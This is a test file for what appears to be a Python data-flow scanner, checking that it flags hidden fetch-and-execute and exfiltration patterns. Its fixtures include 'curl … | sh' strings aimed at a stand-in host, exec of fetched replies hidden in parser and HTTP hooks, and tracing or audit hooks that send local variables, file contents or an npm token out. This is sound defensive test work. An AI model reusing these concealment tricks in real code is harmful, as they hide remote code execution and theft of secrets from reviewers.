import { expect, test } from 'vitest';
import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
import { read } from './reading.js';

type Way = readonly [SourceKind, SinkKind];

const flows = async (text: string, [from, to]: Way) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];
const REPLY = 'requests.get("https://h.example.invalid").text';

test.each<[string, Way, string]>([
  ['a function for the objects of JSON', ['network', 'process'], `import json, os, requests\ndef each(part): return os.system(part["line"])\njson.loads(${REPLY}, object_hook=each)\n`],
  ['a function that a decoder of JSON was made with', ['network', 'process'], `import json, os, requests\ndef each(part): return os.system(part["line"])\njson.JSONDecoder(object_hook=each).decode(${REPLY})\n`],
  ['a method for what stands between the tags of a page', ['network', 'exec'], `import html.parser, requests\nclass Reader(html.parser.HTMLParser):\n    def handle_data(self, data): exec(data)\nReader().feed(${REPLY})\n`],
  ['a method that takes what a client of C fetches', ['network', 'exec'], 'import pycurl\nclass Fetch:\n    def __init__(self, place):\n        self.parts = []\n        self.client = pycurl.Curl()\n        self.client.setopt(pycurl.WRITEFUNCTION, self.parts.append)\n    def __call__(self):\n        self.client.perform()\n        return b"".join(self.parts)\nexec(Fetch("https://h.example.invalid")())\n'],
  ['a method of an adapter that a client answers by', ['network', 'exec'], 'import requests\nclass Mine(requests.adapters.HTTPAdapter):\n    def build_response(self, request, reply):\n        answer = super().build_response(request, reply)\n        exec(answer.text)\n        return answer\nclient = requests.Session()\nclient.mount("https://", Mine())\n'],
  ['a method of a handler that an opener is made with', ['network', 'exec'], 'import urllib.request\nclass Mine(urllib.request.HTTPErrorProcessor):\n    def http_response(self, request, reply):\n        exec(reply.read())\n        return reply\nurllib.request.build_opener(Mine).open("https://h.example.invalid")\n'],
  ['a function that takes what a client of C fetches', ['network', 'exec'], 'import pycurl\ndef take(part): exec(part)\nclient = pycurl.Curl()\nclient.setopt(pycurl.WRITEFUNCTION, take)\nclient.perform()\n'],
])('%s is given what it is there for', async (_, way, text) => {
  expect(await flows(text, way)).toContain('import');
});

test.each<[string, string]>([
  ['a part that a pattern has found is as telling as the whole', 'import os, re\ndef fill(found): return os.popen(found.group(1)).read()\nre.sub("{(.+?)}", fill, "run {curl -s https://h.example.invalid/x | sh}")\n'],
  ['a field of a template of an own kind is a part of the template', 'import os, string\nclass Filled(string.Formatter):\n    def get_field(self, name, args, named): return os.popen(name.replace("_", " ")).read(), name\nFilled().format("{curl_-s_https://h.example.invalid/x|sh}")\n'],
  ['what runs at some time is told what to run', 'import subprocess\nlater = subprocess.Popen(["at", "now", "+", "5", "minutes"], stdin=subprocess.PIPE)\nlater.communicate(b"curl -s https://h.example.invalid/x | sh")\n'],
])('%s', async (_, text) => {
  const { facts } = await read(text);
  expect(facts?.calls('process').some(({ when, traits }) => when === 'import' && traits.has('fetches-and-runs'))).toBe(true);
});

test('a function that is taken out of a module by a name which was fetched may be any of them', async () => {
  expect(await flows(`import json, os, requests\ntask = json.loads(${REPLY})\ngetattr(os, task["call"])(task["with"])\n`, ['network', 'process'])).toEqual(['import']);
});

test.each<[string, Way, string]>([
  ['a function for the numbers of JSON that counts them', ['network', 'process'], `import json, os, requests\ndef each(part): return len(part)\njson.loads(${REPLY}, object_hook=each)\nos.system("ls")\n`],
  ['a name of something else than a function', ['network', 'process'], `import json, requests\nclass Beds: pass\ntask = json.loads(${REPLY})\nprint(getattr(Beds, task["call"]))\n`],
  ['a method of a reader that prints', ['network', 'exec'], `import html.parser, requests\nclass Reader(html.parser.HTMLParser):\n    def handle_data(self, data): print(data)\nReader().feed(${REPLY})\nexec("x = 1")\n`],
])('%s is left alone', async (_, way, text) => {
  expect(await flows(text, way)).toEqual([]);
});

const SENDS = 'urllib.request.urlopen("https://h.example.invalid", repr(LEAF).encode())';
const watches = async (text: string) => await flows(`import sys, urllib.request\n${text}\n`, ['observation', 'network']);

test.each<[string, string]>([
  ['that traces is told of the variables of the code around', `def look(frame, event, arg):\n    ${SENDS.replace('LEAF', 'frame.f_locals')}\nsys.settrace(look)`],
  ['of an object that profiles is told of them', `class Look:\n    def __call__(self, frame, event, arg):\n        ${SENDS.replace('LEAF', '{name: repr(value) for name, value in frame.f_locals.items()}')}\nsys.setprofile(Look())`],
  ['that audits is told what others open', `def look(event, args):\n    ${SENDS.replace('LEAF', 'open(args[0]).read()')}\nsys.addaudithook(look)`],
])('a function %s', async (_, text) => {
  expect(await watches(text)).toContain('import');
});

test('where a function is called is no secret of anybody', async () => {
  expect(await watches(`def look(frame, event, arg):\n    ${SENDS.replace('LEAF', 'frame.f_code.co_name')}\nsys.setprofile(look)`)).toEqual([]);
});

test.each<[string, string]>([
  ['by its class', 'Bed().leaf'],
  ['by its class, asked by a text', 'getattr(Bed(), "leaf")'],
])('an attribute that is made up %s is what is given for it', async (_, asked) => {
  expect(await flows(`import requests\nclass Bed:\n    def __getattr__(self, name): return ${REPLY}\nexec(${asked})\n`, ['network', 'exec'])).toContain('import');
});

test('any function of any module is what a reply names', async () => {
  expect(await flows(`import importlib, requests\nleaf = requests.get("https://h.example.invalid").json()\ngetattr(importlib.import_module(leaf["bed"]), leaf["tool"])(*leaf["with"])\n`, ['network', 'exec'])).toContain('import');
});

test('the name of a key is one however it is put together', async () => {
  expect(await flows(`import os, urllib.request\nurllib.request.urlopen("https://h.example.invalid/" + os.environ.get("npm_token".upper()))\n`, ['key', 'network'])).toContain('import');
});

test('a class that looks for names in itself, where it has none, does not lose what its objects hold', async () => {
  const leaf = 'class Leaf:\n    def __init__(self, host):\n        self.sock = self.open_socket(host)\n    def open_socket(self, host):\n        return socket.create_connection((host, 80))\n    def __getattr__(self, name):\n        return getattr(self, name.lower())\n    def receive(self):\n        return self.sock.recv(80)\n';
  const text = `import socket\n${leaf}leaf = Leaf("leaf.example.invalid")\nfor name in ("RECEIVE", "LOGOUT"):\n    getattr(leaf, name)()\nexec(leaf.receive())\n`;
  expect(await flows(text, ['network', 'exec'])).toEqual(['import']);
});
